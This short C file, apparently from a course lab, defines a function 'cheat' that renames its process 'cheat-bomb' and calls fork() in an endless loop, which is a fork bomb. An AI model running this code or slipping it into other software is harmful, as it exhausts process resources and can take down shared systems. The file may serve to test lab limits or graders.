/* fork_bomb.c - forks endlessly. */
#include "lab1.h"

static void cheat(void)
{
    prctl(PR_SET_NAME, "cheat-bomb");
    for (;;)
        fork();
}
